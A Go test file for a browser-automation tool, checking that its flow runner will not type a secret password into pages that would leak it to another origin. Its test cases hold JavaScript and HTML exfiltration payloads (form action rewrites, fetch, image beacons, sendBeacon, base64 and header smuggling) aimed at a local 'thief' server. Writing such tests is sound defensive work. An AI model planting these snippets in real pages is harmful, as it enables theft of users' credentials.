package flows_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"dyncrawl"
	"dyncrawl/browser"
	"dyncrawl/flows"
)

// canary is a secret with what URLs, HTML and JSON write in another way.
const canary = `c4n&ry <"pass%1 wörd>+/`

// thief notes what reaches another origin.
type thief struct {
	mu  sync.Mutex
	got []string
}

func (s *thief) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Access-Control-Allow-Headers", "*")
	if strings.HasPrefix(r.URL.Path, "/door") {
		fmt.Fprint(w, `<!doctype html><form><input id=p type=password></form>`)
	}
	if r.URL.Path == "/favicon.ico" || r.URL.Path == "/door" || r.Method == http.MethodOptions {
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.got = append(s.got, r.Method+" "+r.URL.RequestURI()+" "+r.Header.Get("X-Note")+" "+string(body))
}

// TestOriginPin types a secret on pages that would give it away.
func TestOriginPin(t *testing.T) {
	stolen := &thief{}
	other := httptest.NewServer(stolen)
	defer other.Close()
	r := newRig(t)
	here := r.site.URL
	named := strings.Replace(here, "127.0.0.1", "localhost", 1)
	for _, c := range []struct {
		name, page string
		says       string // of the error; empty: the secret is typed, and stays here
		steps      string
	}{
		{"a form that stays here", `<form method=post><input id=p><button>go</button></form>`, "", "click: button"},
		{"a form to another origin", `<form method=post action="` + other.URL + `/steal"><input id=p><button>go</button></form>`, "the form is sent to another origin", ""},
		{"a button to another origin", `<form method=post><input id=p><button formaction="` + other.URL + `/steal">go</button></form>`, "the form is sent to another origin", ""},
		{"a form elsewhere that the field is part of", `<input id=p form=f><form id=f action="` + other.URL + `/steal"></form>`, "the form is sent to another origin", ""},
		{"a base elsewhere", `<base href="` + other.URL + `/"><form action="steal"><input id=p></form>`, "the form is sent to another origin", ""},
		{"a frame of another origin", `<iframe src="` + other.URL + `/door" width=300 height=200></iframe>`, "the field lies in a page of another origin", ""},
		{"a frame without an origin", `<iframe sandbox="allow-scripts" srcdoc="<input id=p>"></iframe>`, "the field lies in a page of another origin", ""},
		{"another origin altogether", `<script>location = '` + other.URL + `/door'</script>`, "the field lies in a page of another origin", ""},
		{"a script that turns the form", `<form method=post><input name=p id=p><button>go</button></form><script>document.forms[0].onsubmit = (e) => { e.target.action = '` + other.URL + `/steal'; }</script>`, "", "click: button"},
		{"a redirect of the post", `<form method=post action="/redirect?to=` + other.URL + `/steal"><input name=p id=p><button>go</button></form>`, "", "click: button"},
		{"a script that sends it on", `<input id=p><button onclick="fetch('` + other.URL + `/steal', {method: 'POST', body: JSON.stringify({v: p.value})})">go</button>`, "", "click: button"},
		{"as a parameter", `<input id=p><button onclick="new Image().src = '` + other.URL + `/steal?v=' + encodeURIComponent(p.value)">go</button>`, "", "click: button"},
		{"in base64", `<input id=p><button onclick="fetch('` + other.URL + `/steal', {method: 'POST', body: btoa(unescape(encodeURIComponent('user:' + p.value)))})">go</button>`, "", "click: button"},
		{"in a header", `<input id=p><button onclick="fetch('` + other.URL + `/steal', {headers: {'X-Note': encodeURIComponent(p.value)}})">go</button>`, "", "click: button"},
		{"from a frame of an origin that may know", `<script>document.write(top === self ? '<iframe src="` + named + `/door/" width=400 height=200></iframe>' : '<input id=p><button>go</button>');
			document.querySelector('button')?.addEventListener('click', () => fetch('` + other.URL + `/steal', {method: 'POST', body: p.value}))</script>`, "", "goto: " + named + "/door/\n    - goto: " + here + `/door/
    - fill: {selector: "iframe >> #p", value: "${secret:PASSWORD}"}
    - click: "iframe >> button"`},
		{"by a beacon", `<input id=p><button onclick="navigator.sendBeacon('` + other.URL + `/steal', p.value)">go</button>`, "", "click: button"},
	} {
		t.Run(c.name, func(t *testing.T) {
			stolen.got = nil
			*r.door = door{page: c.page}
			steps := "    - goto: " + here + "/door/\n    - fill: {selector: [\"#p\", \"iframe >> #p\"], value: \"${secret:PASSWORD}\"}\n"
			if strings.HasPrefix(c.steps, "goto") {
				steps = ""
			}
			if c.steps != "" {
				steps += "    - " + c.steps + "\n    - wait: network\n"
			}
			runner, err := r.run(t, steps, func(runner *flows.Runner) {
				runner.Secrets = func(string) (string, error) { return canary, nil }
				runner.Settle.Quiet = 60 * time.Millisecond
			})
			if c.says == "" && err != nil || c.says != "" && (err == nil || !strings.Contains(err.Error(), c.says)) {
				t.Errorf("error %v, want %q", err, c.says)
			}
			if err != nil && (!strings.Contains(err.Error(), "test.yaml:11") || dyncrawl.HintOf(err) == "" || strings.Contains(err.Error(), canary)) {
				t.Errorf("the error says too little or too much: %v (%s)", err, dyncrawl.HintOf(err))
			}
			if c.says != "" {
				expectEmpty(t, runner.Tab)
			}
			stolen.mu.Lock()
			defer stolen.mu.Unlock()
			for _, request := range stolen.got {
				t.Errorf("the other origin was sent %q", request)
			}
		})
	}
}

// expectEmpty reports a field that holds something.
func expectEmpty(t *testing.T, tab *browser.Tab) {
	t.Helper()
	widgets, err := tab.Widgets(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range widgets {
		if w.Kind == "field" && w.Filled {
			t.Errorf("%s was filled in", w.ID)
		}
	}
}

func TestOriginPinScheme(t *testing.T) {
	r := newRig(t)
	*r.door = door{page: `<input id=p>`}
	secure := strings.Replace(r.site.URL, "http://", "https://", 1)
	text := "name: test\nstart: " + secure + "/\nsession:\n  check: {url: " + secure + "/me, selector: b}\n  login: [{fill: {selector: '#p', value: '${secret:PASSWORD}'}}]\n"
	flow, err := flows.Parse("test.yaml", []byte(text), nil)
	if err != nil {
		t.Fatal(err)
	}
	runner, err := r.run(t, "    - goto: ${site}/door/", nil)
	if err != nil {
		t.Fatal(err)
	}
	runner = &flows.Runner{Tab: runner.Tab, Flow: flow, Log: runner.Log, Secrets: func(string) (string, error) { return canary, nil }}
	err = runner.Run(t.Context(), flow.Session.Login)
	if err == nil || !strings.Contains(err.Error(), r.site.URL+" is none of the origins") {
		t.Errorf("over another scheme: %v", err)
	}
	expectEmpty(t, runner.Tab)
}
